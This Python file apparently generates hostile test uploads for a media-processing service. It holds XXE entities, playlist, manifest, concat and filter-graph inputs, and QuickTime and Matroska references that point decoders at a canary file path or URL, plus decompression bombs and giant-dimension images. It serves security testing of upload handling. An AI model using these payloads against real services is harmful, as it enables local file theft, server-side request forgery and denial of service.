"""Hostile uploads, each made for a target that it tries to make a decoder open, or to break it."""

import gzip
import io
import os
import struct
import zipfile
import zlib

import numpy as np
from PIL import Image


def box(name, *parts):
    """An ISO-BMFF box."""
    body = b"".join(parts)
    return struct.pack(">I4s", 8 + len(body), name) + body


def full(name, *parts):
    """A box with version and flags 0."""
    return box(name, bytes(4), *parts)


def movie(dref, *more, size=(64, 64), samples=1, entries=None):
    """A QuickTime movie of one video track whose samples lie where `dref` says."""
    width, height = size
    matrix = struct.pack(">9I", 65536, 0, 0, 0, 65536, 0, 0, 0, 0x40000000)
    mvhd = full(b"mvhd", struct.pack(">IIIIIH", 0, 0, 1000, 1000, 65536, 256), bytes(10), matrix)
    mvhd = full(b"mvhd", mvhd[12:], bytes(24), struct.pack(">I", 2))
    tkhd = box(
        b"tkhd",
        struct.pack(">IIIIII", 15, 0, 0, 1, 0, 1000),
        bytes(16),
        matrix,
        struct.pack(">II", width << 16, height << 16),
    )
    mdhd = full(b"mdhd", struct.pack(">IIIIHH", 0, 0, 1000, 1000, 0, 0))
    hdlr = full(b"hdlr", bytes(4), b"vide", bytes(12), b"v\0")
    entry = struct.pack(
        ">6xH16xHHIIIH32sHh", 1, width, height, 72 << 16, 72 << 16, 0, 1, b"", 24, -1
    )
    stsd = full(b"stsd", struct.pack(">I", 1), box(b"jpeg", entry))
    many = samples if entries is None else entries
    stbl = box(
        b"stbl",
        stsd,
        full(b"stts", struct.pack(">III", 1, many, 40)),
        full(b"stsc", struct.pack(">IIII", 1, 1, many, 1)),
        full(b"stsz", struct.pack(">II", 9000, many)),
        full(b"stco", struct.pack(">II", 1, 40)),
    )
    dinf = box(b"dinf", full(b"dref", struct.pack(">I", 1), dref))
    minf = box(b"minf", full(b"vmhd", bytes(8)), dinf, stbl)
    moov = box(b"moov", mvhd, box(b"trak", tkhd, box(b"mdia", mdhd, hdlr, minf)), *more)
    return box(b"ftyp", b"qt  ", bytes(4), b"qt  ") + moov


def element(name, body):
    """A Matroska element."""
    return bytes.fromhex(name) + struct.pack(">Q", len(body) | 1 << 56) + body


def matroska(*parts):
    """A Matroska file of these children of its segment."""
    head = element("1a45dfa3", element("4282", b"matroska") + element("4287", b"\4"))
    return head + element("18538067", b"".join(parts))


def avi(width, height, index):
    """An AVI of one MJPEG stream without samples, ended by the chunks of an index."""
    avih = struct.pack("<14I", 40000, 0, 0, 16, 9, 0, 1, 0, width, height, 0, 0, 0, 0)
    strh = b"vidsMJPG" + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 9, 0, 0, 0) + bytes(8)
    strf = struct.pack("<IiiHH4sIiiII", 40, width, height, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    strl = b"strl" + chunk(b"strh", strh) + chunk(b"strf", strf)
    hdrl = b"hdrl" + chunk(b"avih", avih) + chunk(b"LIST", strl)
    body = b"AVI " + chunk(b"LIST", hdrl) + chunk(b"LIST", b"movi") + index
    return chunk(b"RIFF", body)


def chunk(name, body):
    """A RIFF chunk."""
    return name + struct.pack("<I", len(body)) + body + bytes(len(body) % 2)


def alias(target):
    """A Macintosh alias of a data reference, as QuickTime writes it."""
    name = os.fsencode(target)
    name += bytes(len(name) % 2)
    record = bytes(150) + b"\0\2" + struct.pack(">H", len(name)) + name + b"\xff\xff\0\0"
    return full(b"alis", record)


def gif(width, height, frames):
    """A GIF whose screen has that size, with small frames."""
    image = b"\x2c" + bytes(4) + struct.pack("<HHB", 1, 1, 0) + b"\2\2\x44\1\0"
    screen = struct.pack("<HHBBB", width, height, 0xF0, 0, 0) + b"\0\0\0\xff\xff\xff"
    return b"GIF89a" + screen + image * frames + b"\x3b"


def png(width, height, body=b"", *more):
    """A PNG that claims a size; more: (name, content) of chunks before its pixels."""
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)), *more]
    chunks += [(b"IDAT", zlib.compress(body)), (b"IEND", b"")]
    packed = (
        struct.pack(">I", len(c)) + n + c + struct.pack(">I", zlib.crc32(n + c)) for n, c in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def jpeg(width, height):
    """A small JPEG that claims another size."""
    out = io.BytesIO()
    Image.fromarray(np.zeros((16, 16, 3), np.uint8)).save(out, "JPEG")
    content = bytearray(out.getvalue())
    at = content.index(b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(content)


def zipped(path):
    """A ZIP file with a file of a web page in it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("clip.mp4", path)
        file.writestr("bomb", bytes(10**6))
    return out.getvalue()


def uploads(canary):
    """(name, what it is called, content) for every kind, pointing at the canary where it can."""
    path, url = str(canary.path), canary.url
    xml = f"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file://{path}'>]>"
    compressed = zlib.compress(bytes(10**6))
    cmov = box(
        b"cmov", box(b"dcom", b"zlib"), box(b"cmvd", struct.pack(">I", 2**31 - 1), compressed)
    )
    rdrf = full(b"rdrf", b"url ", struct.pack(">I", len(url) + 1), url.encode(), b"\0")
    link = element("3c83ab", path.encode()) + element("3cb923", bytes(16))
    info = element("1549a966", element("2ad7b1", b"\x0f\x42\x40") + link)
    attached = element("466e", path.encode()) + element("4660", b"text/uri-list")
    attached = element("1941a469", element("61a7", attached + element("465c", url.encode())))
    lists = {
        "m3u8 of a file": ("list.m3u8", f"#EXTM3U\n#EXTINF:2,\n{path}\n#EXT-X-ENDLIST\n"),
        "m3u8 of an address": ("list.mp4", f"#EXTM3U\n#EXTINF:2,\n{url}\n#EXT-X-ENDLIST\n"),
        "m3u8 with a key": ("k.ts", f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}"\nx.ts\n'),
        "DASH manifest": ("a.mpd", f"<?xml version='1.0'?><MPD><BaseURL>{url}</BaseURL></MPD>"),
        "SDP": ("a.sdp", f"v=0\ns=x\nc=IN IP4 127.0.0.1\nm=video {canary.port} RTP/AVP 96\n"),
        "ffconcat": ("a.mp4", f"ffconcat version 1.0\nfile {path}\n"),
        "concat": ("a.txt", f"file '{path}'\n"),
        "concat protocol": ("a.mp4", f"concat:{path}|{path}"),
        "lavfi graph": ("a.mp4", f"movie={path}[out0]"),
        "AVISynth script": ("a.avs", f'AVISource("{path}")\n'),
        "PLS playlist": ("a.pls", f"[playlist]\nFile1={url}\n"),
        "SMIL": ("a.smil", f"<smil><body><video src='{url}'/></body></smil>"),
        "SVG": ("a.svg", f"<svg xmlns='x'><image href='{url}'/><image href='{path}'/></svg>"),
        "SVG as PNG": ("a.png", f"{xml}<svg><text>&x;</text></svg>"),
        "XML entity": ("a.xml", f"{xml}<a>&x;</a>"),
        "HTML": ("a.mp4", f"<!DOCTYPE html><video src='{url}'></video>"),
        "PostScript": ("a.jpg", f"%!PS-Adobe-3.0 EPSF-3.0\n({path}) (r) file\n"),
        "image sequence": ("im%03d.jpg", f"{path}\n"),
    }
    yield from ((what, name, text.encode()) for what, (name, text) in lists.items())
    yield from (
        ("QuickTime alias to a file", "a.mov", movie(alias(path))),
        ("data reference to an address", "a.mp4", movie(full(b"url ", url.encode(), b"\0"))),
        ("data reference by name", "a.mp4", movie(full(b"urn ", b"x\0", url.encode(), b"\0"))),
        ("QuickTime reference movie", "a.mov", movie(b"", box(b"rmra", box(b"rmda", rdrf)))),
        ("playlist behind an MP4 head", "a.mp4", box(b"ftyp", b"isom", bytes(4)) + path.encode()),
        ("compressed index bomb", "a.mov", box(b"ftyp", b"qt  ", bytes(4)) + box(b"moov", cmov)),
        (
            "index of four billion frames",
            "a.mp4",
            movie(box(b"url ", b"\0\0\0\1"), entries=2**32 - 1),
        ),
        ("MP4 of giant frames", "a.mp4", movie(box(b"url ", b"\0\0\0\1"), size=(65535, 65535))),
        ("Matroska linked to a file", "a.mkv", matroska(info)),
        ("Matroska with an attachment", "a.mkv", matroska(info, attached)),
        ("EBML head and a playlist", "a.webm", b"\x1aE\xdf\xa3" + b"#EXTM3U\n" + path.encode()),
        ("AVI index past its end", "a.avi", avi(64, 64, chunk(b"idx1", b"00dc" + b"\xff" * 12))),
        ("AVI index of everything", "a.avi", avi(64, 64, chunk(b"indx", b"\xff" * 32))),
        ("AVI of giant frames", "a.avi", avi(2**30, 2**30, b"")),
        ("RIFF that is no AVI", "a.avi", chunk(b"RIFF", b"WAVEfmt " + bytes(16))),
        ("GIF of a giant screen", "a.gif", gif(65535, 65535, 2)),
        ("GIF without end", "a.gif", gif(2000, 2000, 3000)[:-1]),
        ("PNG of giant size", "a.png", png(2**31 - 1, 2**31 - 1)),
        ("PNG bomb", "a.png", png(4096, 2304, bytes(2**22), (b"zTXt", b"a\0\0" + compressed))),
        ("JPEG of giant size", "a.jpg", jpeg(65500, 65500)),
        ("ZIP", "a.mp4", zipped(path)),
        ("gzip bomb", "a.mp4", gzip.compress(bytes(10**6))),
        ("TIFF", "a.png", b"II*\0" + bytes(60)),
        ("ELF program", "a.mp4", b"\x7fELF" + bytes(60)),
        ("nothing", "a.mp4", b""),
        ("one byte", "a.mp4", b"\0"),
        ("head only", "a.mp4", b"\0\0\0\x18ftypisom"),
    )
